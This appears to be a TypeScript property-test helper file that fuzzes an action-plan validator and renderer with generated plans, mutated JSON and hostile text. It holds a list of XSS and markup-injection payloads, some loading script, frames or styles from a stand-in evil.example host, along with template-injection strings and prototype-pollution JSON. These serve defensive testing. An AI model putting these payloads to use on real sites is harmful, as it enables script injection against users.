// fast-check arbitraries shared by the property tests: small valid plans (from the seeded generator), hostile
// texts, and arbitrary JSON that aims at the places where validators and parsers tend to break.
import type { PlanInput } from "@actionplan/core";
import fc from "fast-check";
import { generatePlan, type GeneratePlanOptions } from "../../scripts/generate-plan.js";

/** Options of small generated plans: a few measures, any chapter split, languages and share of language maps. */
export const smallPlanOptions: fc.Arbitrary<GeneratePlanOptions> = fc.record({
  seed: fc.integer({ min: 0, max: 2 ** 31 - 1 }),
  measures: fc.integer({ min: 1, max: 30 }),
  measuresPerChapter: fc.integer({ min: 1, max: 12 }),
  languages: fc.constantFrom<readonly string[]>([], ["en"], ["en", "nn"], ["en-GB", "se"]),
  localizedShare: fc.constantFrom(0, 0.3, 1),
  full: fc.boolean(),
});

/** Small valid plans: no errors and no warnings from either validator. */
export const validPlan: fc.Arbitrary<PlanInput> = smallPlanOptions.map((options) => generatePlan(options));

/** Strings that try to break out of text into markup, in HTML and in Markdown. */
export const INJECTION_PAYLOADS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  "javascript:alert(1)",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](&#106;avascript:alert(1))",
  "[x](java\nscript:alert(1))",
  '[x](https://example.org "title" onmouseover=alert(1))',
  "[a](https://example.org/\"onmouseover=\"alert(1))",
  "![x](javascript:alert(1))",
  "<javascript:alert(1)>",
  "<https://example.org/\"onmouseover=\"alert(1)>",
  "</style><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "<!--<script>alert(1)</script>-->",
  "--><script>alert(1)</script>",
  "<iframe src=https://evil.example></iframe>",
  "<object data=x></object>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "&amp;lt;b&amp;gt;",
  "<div\nonclick=alert(1)>x</div>",
  "<a href=\"javascript:alert(1)\">x</a>",
  "**<script>alert(1)</script>**",
  "*[x](javascript:alert(1))*",
  "\\<script>alert(1)\\</script>",
  "`<script>alert(1)</script>`",
  "```\n<script>alert(1)</script>\n```",
  "<details open ontoggle=alert(1)>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
  "<style>@import 'https://evil.example/x.css'</style>",
  '<p style="background:url(javascript:alert(1))">x</p>',
  "| a | <script>alert(1)</script> |\n|---|---|",
  "# <script>alert(1)</script>",
  "\n\n<div>\n<script>alert(1)</script>\n</div>\n\n",
  "    <script>alert(1)</script>",
  "> <img src=x onerror=alert(1)>",
  "- <img src=x onerror=alert(1)>",
  "1. <img src=x onerror=alert(1)>",
  "<?php echo 1 ?>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "\u0000<script>alert(1)</script>",
  "\ufeff<script>alert(1)</script>",
  "\u202e<script>alert(1)</script>",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
] as const;

/** Texts of any kind: unicode, control characters, markup-looking fragments and the payloads above. */
export const hostileText: fc.Arbitrary<string> = fc
  .oneof(
    { weight: 3, arbitrary: fc.constantFrom(...INJECTION_PAYLOADS) },
    { weight: 2, arbitrary: fc.string({ unit: "grapheme", maxLength: 40 }) },
    { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
    {
      weight: 2,
      arbitrary: fc
        .array(fc.constantFrom("<", ">", "&", '"', "'", "`", "/", "\\", "*", "_", "[", "]", "(", ")", "!", "#", "|",
          "\n", " ", "=", ":", ";", "-", "script", "img", "on", "javascript", "data", "a", "style", "x"), { maxLength: 30 })
        .map((parts) => parts.join("")),
    },
    {
      weight: 2,
      arbitrary: fc
        .tuple(fc.string({ maxLength: 8 }), fc.constantFrom(...INJECTION_PAYLOADS), fc.string({ maxLength: 8 }))
        .map((parts) => parts.join("")),
    },
  )
  .map((text) => (text.length === 0 ? "<script>alert(0)</script>" : text));

/**
 * Small plans in which every human-readable string (texts, names, numbers, abbreviations) is a hostile text, and an
 * earlier version of the same plan with the texts shifted by one, so that a changes view has rewordings to show.
 */
export const planWithHostileText: fc.Arbitrary<{ plan: PlanInput; previous: PlanInput; texts: string[] }> = fc
  .tuple(smallPlanOptions, fc.array(hostileText, { minLength: 1, maxLength: 12 }))
  .map(([options, texts]) => {
    const small = { ...options, measures: Math.min(options.measures ?? 1, 8) };
    return {
      plan: generatePlan({ ...small, text: (index) => texts[index % texts.length] }),
      previous: generatePlan({ ...small, text: (index) => texts[(index + 1) % texts.length] }),
      texts,
    };
  });

/** Objects whose keys (via JSON.parse) are `__proto__`, `constructor` or `prototype`, as an attacker would send. */
export const prototypeKeyJson: fc.Arbitrary<unknown> = fc
  .tuple(
    fc.constantFrom("__proto__", "constructor", "prototype"),
    fc.jsonValue({ maxDepth: 2 }),
    fc.constantFrom("", "chapters", "cluster", "strategy", "measures", "period", "title"),
  )
  .map(([key, value, at]) => {
    const inner = `{${JSON.stringify(key)}:{"polluted":true,"value":${JSON.stringify(value)}}}`;
    const source = at === "" ? inner : `{"schemaVersion":"2.0","id":"x","${at}":[${inner}],"p":${inner}}`;
    return JSON.parse(source) as unknown;
  });

/** A generated plan with one value somewhere replaced by arbitrary JSON: nearly valid, so it reaches deep code. */
export const mutatedPlan: fc.Arbitrary<unknown> = fc
  .tuple(validPlan, fc.nat(), fc.jsonValue({ maxDepth: 3 }), fc.constantFrom("replace", "delete", "add"))
  .map(([plan, at, value, how]) => mutate(plan, at, value, how));

function mutate(plan: PlanInput, at: number, value: unknown, how: "replace" | "delete" | "add"): unknown {
  return mutateValue(plan, at, value, how).value;
}

/** Copies a JSON value and changes one place in it, chosen by index among all places. */
export function mutateValue(
  source: unknown,
  at: number,
  value: unknown,
  how: "replace" | "delete" | "add",
  eligible: (value: unknown) => boolean = () => true,
): { value: unknown; pointer: string } {
  const copy = JSON.parse(JSON.stringify(source)) as unknown;
  const slots: { parent: Record<string, unknown> | unknown[]; key: string | number; pointer: string }[] = [];
  const visit = (node: unknown, pointer: string): void => {
    if (Array.isArray(node)) {
      node.forEach((child, index) => {
        if (eligible(child)) slots.push({ parent: node, key: index, pointer: `${pointer}/${index}` });
        visit(child, `${pointer}/${index}`);
      });
    } else if (node !== null && typeof node === "object") {
      for (const [key, child] of Object.entries(node)) {
        const inner = `${pointer}/${key.replaceAll("~", "~0").replaceAll("/", "~1")}`;
        if (eligible(child)) slots.push({ parent: node as Record<string, unknown>, key, pointer: inner });
        visit(child, inner);
      }
    }
  };
  visit(copy, "");
  if (slots.length === 0) return { value, pointer: "" };
  const slot = slots[at % slots.length]!;
  if (how === "replace") (slot.parent as Record<string | number, unknown>)[slot.key] = value;
  else if (how === "delete") {
    if (Array.isArray(slot.parent)) slot.parent.splice(slot.key as number, 1);
    else delete slot.parent[slot.key as string];
  } else if (Array.isArray(slot.parent)) slot.parent.push(value);
  else slot.parent[`${String(slot.key)}x`] = value;
  return { value: copy, pointer: slot.pointer };
}
